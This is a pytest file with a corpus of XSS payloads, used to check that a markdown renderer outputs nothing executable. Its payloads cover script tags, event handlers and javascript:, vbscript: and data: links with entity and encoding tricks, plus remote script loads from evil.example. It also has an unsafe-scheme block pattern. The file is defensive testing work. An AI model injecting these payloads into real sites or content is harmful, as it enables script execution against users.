"""An XSS corpus against the markdown renderer: model output and cards must never run anything.

The rendered HTML is parsed with the standard library's HTML parser, which decodes entities in
attribute values the way a browser does, so obfuscated schemes are caught after decoding.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from app.markdown import render_markdown

ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "ul",
}
ALLOWED_ATTRS = {"href", "rel", "target", "class", "start", "title"}
_UNSAFE_SCHEME = re.compile(r"^(?:javascript|vbscript|data|file):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for needle in ("<script", "<img", "<iframe", "<style", "<svg", "<object", "<embed"):
        assert needle not in lowered, f"{needle} in {html!r}"
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}> in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} in {html!r}"
            assert name in ALLOWED_ATTRS, f"unexpected attribute {name} in {html!r}"
            if name == "href":
                link = _INVISIBLE.sub("", value or "")
                assert not _UNSAFE_SCHEME.match(link), f"unsafe href {value!r}"
                assert link.lower().startswith(("http://", "https://", "mailto:")), link
            if name == "class":
                assert value is not None
                assert re.fullmatch(r"[\w\- \"'<>=&;:/().!]*", value)


CORPUS = [
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src-upper"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-split"),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<a href="#" onclick="alert(1)">click</a>', id="a-onclick"),
    pytest.param("<div onmouseover=alert(1)>hover</div>", id="div-onmouseover"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param("<svg/onload=alert(1)>", id="svg-onload-slash"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="mxss"),
    pytest.param("<iframe src=javascript:alert(1)></iframe>", id="iframe-js"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>">', id="iframe-srcdoc"),
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-tag"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attr"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="data:text/html,<script>alert(1)</script>">', id="embed"),
    pytest.param('<form action="javascript:alert(1)"><button>go</button></form>', id="form"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta"),
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-breakout"),
    pytest.param("[x](javascript:alert(1))", id="inline-link-js"),
    pytest.param("[x](JAVASCRIPT:alert(1))", id="inline-link-js-upper"),
    pytest.param("[x]( javascript:alert(1) )", id="inline-link-js-spaces"),
    pytest.param("[x](<javascript:alert(1)>)", id="inline-link-js-angle"),
    pytest.param('[x](javascript:alert(1) "title")', id="inline-link-js-title"),
    pytest.param("[x](java\tscript:alert(1))", id="inline-link-js-tab"),
    pytest.param("[x](jav&#x61;script:alert(1))", id="inline-link-hex-entity"),
    pytest.param("[x](jav&#97;script:alert(1))", id="inline-link-dec-entity"),
    pytest.param(
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))", id="all-entities"
    ),
    pytest.param("[x](javascript&colon;alert(1))", id="named-colon-entity"),
    pytest.param("[x](%6A%61%76%61script:alert(1))", id="percent-encoded"),
    pytest.param("[x](\\javascript:alert(1))", id="backslash"),
    pytest.param("[x](vbscript:msgbox(1))", id="inline-link-vbscript"),
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="data-html"),
    pytest.param("[x](data:image/svg+xml,<svg onload=alert(1)>)", id="data-svg"),
    pytest.param("[x](file:///etc/passwd)", id="file-link"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", id="reference-link-js"),
    pytest.param("[x][r]\n\n[r]: <jav&#x61;script:alert(1)>", id="reference-link-entity"),
    pytest.param("[r]\n\n[r]: data:text/html,<script>alert(1)</script>", id="collapsed-ref-data"),
    pytest.param("[x][]\n\n[x]: vbscript:msgbox(1)", id="empty-ref-vbscript"),
    pytest.param("<javascript:alert(1)>", id="autolink-js"),
    pytest.param("<JavaScript:alert(1)>", id="autolink-js-mixed"),
    pytest.param("<data:text/html,alert(1)>", id="autolink-data"),
    pytest.param("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    pytest.param("https://example.org/<script>alert(1)</script>", id="bare-url-script"),
    pytest.param("![x](javascript:alert(1))", id="image-js-src"),
    pytest.param('![x" onerror="alert(1)](https://example.org/a.png)', id="image-alt-breakout"),
    pytest.param("![x][i]\n\n[i]: javascript:alert(1)", id="image-reference-js"),
    pytest.param("![<img src=x onerror=alert(1)>](x.png)", id="image-alt-html"),
    pytest.param("[![x](javascript:alert(1))](javascript:alert(2))", id="image-in-link"),
    pytest.param("[<img src=x onerror=alert(1)>](https://example.org)", id="html-in-link-text"),
    pytest.param('[x](https://example.org "a\\" onmouseover=\\"alert(1)")', id="title-breakout"),
    pytest.param('[x](https://example.org" onclick="alert(1))', id="href-quote-breakout"),
    pytest.param("**<script>alert(1)</script>**", id="script-in-bold"),
    pytest.param("> <iframe src=//evil.example>", id="iframe-in-quote"),
    pytest.param("- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))", id="list-combo"),
    pytest.param('```"><script>alert(1)</script>\ncode\n```', id="fence-info-breakout"),
    pytest.param("```html\n<script>alert(1)</script>\n```", id="fenced-script"),
    pytest.param("`<script>alert(1)</script>`", id="code-span-script"),
    pytest.param("    <script>alert(1)</script>", id="indented-code-script"),
    pytest.param("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    pytest.param('<a href="javascript&#58;alert(1)">x</a>', id="raw-a-entity"),
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="pre-escaped"),
    pytest.param("<x onclick=alert(1)>[y](javascript:alert(1))</x>", id="custom-tag-and-link"),
    pytest.param('[a](javascript:alert(1)\n"t")', id="multiline-title"),
    pytest.param("\u0000<script>alert(1)</script>", id="nul-prefix"),
    pytest.param("[x](\u200bjavascript:alert(1))", id="zero-width-prefix"),
]


@pytest.mark.parametrize("payload", CORPUS)
def test_payload_renders_inert(payload: str) -> None:
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", CORPUS)
def test_payload_inside_text_renders_inert(payload: str) -> None:
    assert_inert(render_markdown(f"Hello *there*.\n\n{payload}\n\nMore text after."))


def test_safe_link_keeps_its_href() -> None:
    """The checks above are not vacuous: a good link survives and passes them."""
    html = render_markdown("[site](https://example.org/a?b=1&c=2)")
    assert_inert(html)
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html


def test_assert_inert_catches_executable_html() -> None:
    for bad in (
        '<a href="jav&#x61;script:alert(1)">x</a>',
        "<p onclick=alert(1)>x</p>",
        "<img src=x>",
        '<a href="data:text/html,x">x</a>',
    ):
        with pytest.raises(AssertionError):
            assert_inert(bad)
